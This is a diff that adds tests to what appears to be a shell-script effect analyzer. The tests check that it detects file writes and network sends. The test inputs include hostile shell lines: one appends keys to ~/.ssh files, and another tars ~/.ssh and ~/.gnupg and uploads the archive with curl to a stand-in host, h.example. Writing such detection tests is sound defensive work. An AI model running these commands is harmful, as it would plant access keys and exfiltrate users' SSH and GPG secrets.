@@ -185,3 +185,31 @@ describe('tools that run code of the package', () => {
     ]);
   });
 });
+
+describe('what a script reads line by line', () => {
+  const list = { 'list.txt': 'k|ssh-ed25519|AAAA1\nh|git.example|AAAA2\n' };
+  const script =
+    'while IFS="|" read -r kind a b; do case $kind in k) f=authorized ;; \\*) f=star ;; *) f=known ;; esac; echo "$a $b" >> ~/.ssh/$f; done < list.txt';
+
+  test('each line of an own file once, by the first case that fits', () => {
+    const written = run(script, list).observations.filter(({ sink }) => sink === 'fs.write');
+    expect(written.map(({ target, args }) => [target, args[1]?.text])).toEqual([
+      ['~/.ssh/authorized', 'ssh-ed25519 AAAA1'],
+      ['~/.ssh/known', 'git.example AAAA2'],
+    ]);
+  });
+
+  test('a test of known words decides what is printed, not what is seen', () => {
+    const result = run('l=b; echo x > ~/$( [ $l = a ] && echo one || echo two ); [ $l = a ] && curl https://h.example');
+    const targets = result.observations.map(({ sink, target }) => `${sink} ${target}`);
+    expect(targets).toContain('fs.write ~/two');
+    expect(targets).toContain('net.out https://h.example');
+  });
+
+  test('members of a list are words of their own; tar takes names from its folder', () => {
+    const text =
+      'f() { local more=(.ssh .gnupg); tar -C "$HOME" -czf - "${more[@]}" | curl -T - https://h.example; }; f';
+    const sent = run(text).observations.find(({ sink }) => sink === 'net.out');
+    expect(sent?.taints.map(({ detail }) => detail)).toEqual(['~/.ssh', '~/.gnupg']);
+  });
+});
